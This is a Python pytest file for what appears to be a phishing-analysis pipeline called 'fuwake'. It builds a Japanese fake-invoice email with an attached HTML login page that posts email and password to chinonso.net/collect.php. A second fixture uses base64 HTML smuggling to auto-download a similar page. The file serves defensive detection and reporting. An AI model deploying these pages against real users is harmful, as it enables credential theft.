"""A mail with a link and a page as a file: both are visited, the article tells of both, and nothing of the recipient remains."""

import base64
from email.message import EmailMessage
from pathlib import Path

import pytest

from fuwake.pipeline.dissect import save
from fuwake.pipeline.replay import replay
from fuwake.pipeline.verify import verify
from tests.end_to_end.variant import T3, Outcome, Variant

pytestmark = [pytest.mark.needs_browser, pytest.mark.needs_bubblewrap, pytest.mark.timeout(180)]

RECIPIENT = "haruka.mizuno@mizuno-works.example"


def _asking() -> str:
    """A page that asks for a password and knows who received it."""
    who = base64.b64encode(RECIPIENT.encode()).decode()
    return (
        "<!DOCTYPE html><html lang=ja><meta charset=utf-8><title>請求書の表示</title><h1>サインイン</h1>"
        "<form method=post action=http://chinonso.net/collect.php><label>メールアドレス<input id=m name=mail></label>"
        f"<label>パスワード<input type=password name=pw></label><button>表示</button></form><script>m.value = atob('{who}')</script>"
    )


def _message(link: str, page: str) -> bytes:
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "経理 <keiri@colonista.jp>", RECIPIENT, "請求書"
    mail["Date"], mail["Message-ID"] = "Wed, 11 Oct 2023 14:40:31 +0900", "<a1@colonista.jp>"
    mail.set_content(f"請求書を確認してください。{link}")
    mail.add_attachment(page.encode(), maintype="text", subtype="html", filename="請求書.html")
    return mail.as_bytes()


def _examined(folder: Path, link: str, page: str) -> Outcome:
    t3 = Variant(T3, folder)
    t3.message = t3.message[: t3.message.index(b"From: IT-Webmail")] + _message(link, page)
    return t3.examine(visit=True, visit_profiles=("desktop-ja",))


@pytest.fixture(scope="module")
def outcome(tmp_path_factory: pytest.TempPathFactory) -> Outcome:
    """A mail with a link to a page without fields, and an attached page that asks for a password."""
    return _examined(tmp_path_factory.mktemp("attached"), "http://chinonso.net/nothing-here", _asking())


def test_both_are_visited_the_link_first(outcome: Outcome) -> None:
    visits = [seen for seen in outcome.case.observations if seen.observer == "visit"]
    assert sorted(seen.subject.partition(":")[0] for seen in visits) == ["http", "part"]
    by_kind = {seen.subject.partition(":")[0]: seen for seen in visits}
    assert by_kind["http"].asked_at < by_kind["part"].asked_at
    attached = outcome.case.attached_page
    assert attached is not None
    assert [field.kind for field in attached.fields] == ["email", "password"]
    assert [(target.url, target.carries) for target in attached.targets] == [("http://chinonso.net/collect.php", ("email", "password"))]
    assert attached.online
    assert attached.alone is not None
    assert attached.alone.fields == ("email", "password")


def test_the_article_tells_what_it_asks_for_and_where_it_would_send(outcome: Outcome) -> None:
    assert "添付されたページはメールアドレスとパスワードの入力を求めています" in outcome.ja
    assert "hxxp://chinonso[.]net/collect.php" in outcome.ja
    assert "The attached page asks for mail address and password" in outcome.en
    assert "添付ファイルとして届いたページ「請求書.html」は、パスワードの入力を求めます" in outcome.ja


def test_the_rules_say_that_it_came_attached(outcome: Outcome) -> None:
    found = {finding.rule: finding for finding in outcome.case.findings if finding.subject == "collection_site"}
    assert found["page_asks_for_password"].says_en == 'The page that came attached ("請求書.html") asks for a password.'
    assert "page_sends_to_other_host" in found


def test_what_its_data_would_go_to_is_asked_about(outcome: Outcome) -> None:
    known = next(one for one in outcome.case.domains if one.domain == "chinonso.net")
    assert "target" in known.uses


def test_the_case_is_verified_and_replayed(outcome: Outcome, tmp_path: Path) -> None:
    folder = save(outcome.dissection, tmp_path, {})
    assert verify(folder) == ()
    again = replay(folder, outcome.case.run.fuwake)
    assert again.case.attached_page == outcome.case.attached_page
    assert not any(RECIPIENT.encode() in file.read_bytes() for file in (folder / "evidence").iterdir()), "not even in the raw answers"


def test_a_page_that_an_attached_page_puts_together_is_opened_too(tmp_path: Path) -> None:
    inner = "<!DOCTYPE html><html lang=ja><meta charset=utf-8><title>請求書</title><form method=post action=http://chinonso.net/in.php>"
    inner += (
        "<label>メールアドレス<input name=mail></label><label>パスワード<input type=password name=pw></label><button>表示</button></form>"
    )
    coded = base64.b64encode(inner.encode()).decode()
    outer = (
        f"<!DOCTYPE html><meta charset=utf-8><p>請求書を作成しています</p><a id=a download=invoice.html></a><script>"
        f"const bytes = Uint8Array.from(atob('{coded}'), (sign) => sign.charCodeAt(0));"
        "a.href = URL.createObjectURL(new Blob([bytes], {type: 'text/html'})); a.click();</script>"
    )
    outcome = _examined(tmp_path / "work", "http://chinonso.net/nothing-here", outer)
    page = outcome.case.attached_page
    assert page is not None
    assert (page.part, [field.kind for field in page.fields]) == ("handed-over", ["email", "password"])
    assert [target.url for target in page.targets] == ["http://chinonso.net/in.php"]
    assert "ページが渡したファイルはメールアドレスとパスワードの入力を求めています" in outcome.ja
    assert "The file that the page handed over asks for mail address and password" in outcome.en
    assert verify(save(outcome.dissection, tmp_path, {})) == ()
